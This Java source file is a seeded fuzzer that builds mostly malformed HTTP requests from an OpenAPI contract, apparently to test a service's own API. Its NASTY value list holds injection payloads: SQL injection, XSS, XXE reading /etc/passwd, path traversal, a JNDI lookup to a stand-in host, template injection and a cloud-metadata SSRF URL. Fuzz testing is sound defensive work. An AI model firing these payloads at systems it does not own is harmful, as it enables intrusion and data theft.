package org.colleaguesearch;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

/**
 * Generates requests from an OpenAPI document: some valid, most invalid in type, size, encoding or intent. The same
 * seed generates the same requests.
 */
final class Fuzz {
    /** A request; {@code body} null if it has none. */
    @SuppressWarnings("ArrayRecordComponent") // nobody compares two
    record Request(String operation, String method, String path, Map<String, String> headers, byte[] body) {
        @Override
        public String toString() {
            return method + " " + path + " " + headers + " "
                    + (body == null ? "" : new String(body, 0, Math.min(body.length, 500), StandardCharsets.UTF_8));
        }
    }

    private record Operation(String method, String path, JsonNode item, JsonNode operation) {}

    private static final List<String> METHODS = List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD");

    /** Values that match patterns such as those of ids. */
    private static final List<String> GOOD =
            List.of("job-1", "20261123T020000000Z", "20261123T020000000Z-patents", "patents", "a");

    private static final List<String> NASTY = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "\r\nSet-Cookie: a=b",
            "\ud83d\ude00",
            "\u202e\u0301\ufeff",
            "a".repeat(257),
            "b".repeat(3_000),
            "'; drop table run; --",
            "1 or 1=1",
            "\" or \"\"=\"",
            "<script>alert(1)</script>",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
            "../../../../etc/passwd",
            "..\\..\\windows",
            "%2e%2e%2f",
            "%s%n%x",
            "${jndi:ldap://evil.test/x}",
            "${env:HOME} ${exchangeId} ${bean:problems}",
            "{{camel.main.name}}",
            "#{T(Runtime).getRuntime()}",
            "RAW(x)",
            "[a,b]",
            "{\"query\":{\"match_all\":{}}}",
            "*",
            "a AND (",
            "\"unclosed",
            "/a{1,999}/",
            "\\",
            "name:* OR _exists_:id",
            "http://169.254.169.254/latest/meta-data",
            "file:///etc/passwd",
            "-1",
            "0",
            "1e309",
            "9223372036854775808",
            "NaN",
            "true",
            "null",
            "undefined",
            "text/html",
            "image/*;q=0.5",
            "2026-11-23T02:00:00Z");

    private static final List<String> HEADERS = List.of(
            "CamelHttpUri",
            "CamelHttpQuery",
            "CamelHttpResponseCode",
            "X-API-Caller",
            "Prefer",
            "Range",
            "If-Range",
            "Accept",
            "Accept-Encoding",
            "Content-Encoding",
            "X-HTTP-Method-Override",
            "X-Forwarded-Host",
            "q",
            "job_id",
            "If-None-Match");

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private final JsonNode document;
    private final List<Operation> operations = new ArrayList<>();
    private final Random random;

    Fuzz(Path contract, long seed) {
        random = new Random(seed);
        try {
            document = new ObjectMapper(new YAMLFactory()).readTree(contract.toFile());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        document.get("paths")
                .properties()
                .forEach(path -> path.getValue().properties().stream()
                        .filter(method -> METHODS.contains(method.getKey().toUpperCase(Locale.ROOT)))
                        .forEach(method -> operations.add(new Operation(
                                method.getKey().toUpperCase(Locale.ROOT),
                                path.getKey(),
                                path.getValue(),
                                method.getValue()))));
    }

    Request next() {
        Operation operation = any(operations);
        Map<String, String> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
        String path = "/api" + operation.path;
        StringBuilder query = new StringBuilder();
        for (JsonNode of : List.of(operation.item, operation.operation)) {
            for (JsonNode reference : of.path("parameters")) {
                JsonNode parameter = resolved(reference);
                String name = parameter.get("name").asText();
                String value = random.nextInt(3) > 0 ? text(value(parameter.get("schema"), 0)) : any(NASTY);
                switch (parameter.get("in").asText()) {
                    case "path" -> path = path.replace("{" + name + "}", encoded(value));
                    case "query" -> {
                        for (int times = random.nextInt(20) == 0 ? 2 : random.nextInt(2); times > 0; times--) {
                            query.append('&').append(name).append('=').append(encoded(value));
                        }
                    }
                    default -> headers.put(name, header(value));
                }
            }
        }
        if (chance(20)) {
            query.append('&').append(encoded(any(NASTY))).append('=').append(encoded(any(NASTY)));
        }
        if (chance(20)) {
            path = path.replace("/", any(List.of("/", "/./", "/%2e/", "/a/"))) + any(List.of("", "/", "%25", ".json"));
        }
        for (int i = random.nextInt(10) - 7; i > 0; i--) {
            String name = any(HEADERS);
            // Otherwise hardly any request would accept only a media type that no operation returns.
            headers.put(name, name.equals("Accept") && random.nextBoolean() ? "text/html" : header(any(NASTY)));
        }
        String method = chance(25) ? any(METHODS) : operation.method;
        JsonNode schema = operation.operation.at("/requestBody/content/application~1json/schema");
        byte[] body = null;
        if (!schema.isMissingNode() || chance(20)) {
            body = body(schema);
            headers.put("Content-Type", chance(20) ? header(any(NASTY)) : "application/json");
        }
        return new Request(
                operation.operation.get("operationId").asText(),
                method,
                path + (query.isEmpty() ? "" : "?" + query.substring(1)),
                headers,
                body);
    }

    private byte[] body(JsonNode schema) {
        String json = value(schema, 0).toString();
        return switch (random.nextInt(12)) {
            case 0 -> json.substring(0, random.nextInt(json.length() + 1)).getBytes(StandardCharsets.UTF_8);
            case 1 -> any(NASTY).getBytes(StandardCharsets.UTF_16);
            case 2 -> "[".repeat(random.nextInt(5_000)).getBytes(StandardCharsets.UTF_8);
            case 3 -> {
                byte[] noise = new byte[random.nextInt(300)];
                random.nextBytes(noise);
                yield noise;
            }
            case 4 ->
                json.replaceFirst("\\{", "{\"query\":\"\\\\ud800\",\"query\":1e99999,")
                        .getBytes(StandardCharsets.UTF_8);
            default -> json.getBytes(StandardCharsets.UTF_8);
        };
    }

    /** A value of a schema, possibly with mistakes. */
    private JsonNode value(JsonNode reference, int depth) {
        JsonNode schema = resolved(reference);
        if (chance(12) || depth > 6) {
            return wrong(depth);
        }
        if (schema.has("enum")) {
            return any(list(schema.get("enum")));
        }
        return switch (schema.path("type").asText()) {
            case "object" -> object(schema, depth);
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                for (int i = random.nextInt(4); i > 0; i--) {
                    array.add(value(schema.get("items"), depth + 1));
                }
                yield array;
            }
            case "integer" ->
                NODES.numberNode(any(List.of(0, 1, 5, 10, 50, 100, 501, -1, 1_000_000, Integer.MAX_VALUE)));
            case "boolean" -> NODES.booleanNode(random.nextBoolean());
            default ->
                NODES.textNode(
                        schema.has("pattern")
                                ? GOOD.stream()
                                        .filter(text -> text.matches(
                                                schema.get("pattern").asText()))
                                        .findFirst()
                                        .orElse("a")
                                : any(NASTY));
        };
    }

    private ObjectNode object(JsonNode schema, int depth) {
        ObjectNode object = NODES.objectNode();
        schema.path("properties").properties().forEach(property -> {
            if (random.nextInt(4) > 0) {
                object.set(property.getKey(), value(property.getValue(), depth + 1));
            }
        });
        if (chance(15)) {
            object.set(any(NASTY), wrong(depth));
        }
        return object;
    }

    private JsonNode wrong(int depth) {
        return switch (random.nextInt(7)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.numberNode(random.nextGaussian() * Math.pow(10, random.nextInt(30)));
            case 2 -> NODES.booleanNode(true);
            case 3 -> NODES.arrayNode().add(depth > 6 ? NODES.nullNode() : wrong(depth + 1));
            case 4 -> NODES.objectNode().set(any(NASTY), NODES.textNode(any(NASTY)));
            default -> NODES.textNode(any(NASTY));
        };
    }

    private JsonNode resolved(JsonNode node) {
        return node.has("$ref") ? document.at(node.get("$ref").asText().substring(1)) : node;
    }

    private static List<JsonNode> list(JsonNode array) {
        List<JsonNode> list = new ArrayList<>();
        array.forEach(list::add);
        return list;
    }

    private static String text(JsonNode value) {
        return value.isValueNode() ? value.asText() : value.toString();
    }

    /** HTTP clients send no other octets in a header. */
    private static String header(String value) {
        return value.replaceAll("[^ -~]", "?");
    }

    private String encoded(String value) {
        String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8);
        return chance(30) ? encoded + any(List.of("%FF", "%00", "%ED%A0%80", "%0A", "+")) : encoded;
    }

    private boolean chance(int oneIn) {
        return random.nextInt(oneIn) == 0;
    }

    private <T> T any(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }
}
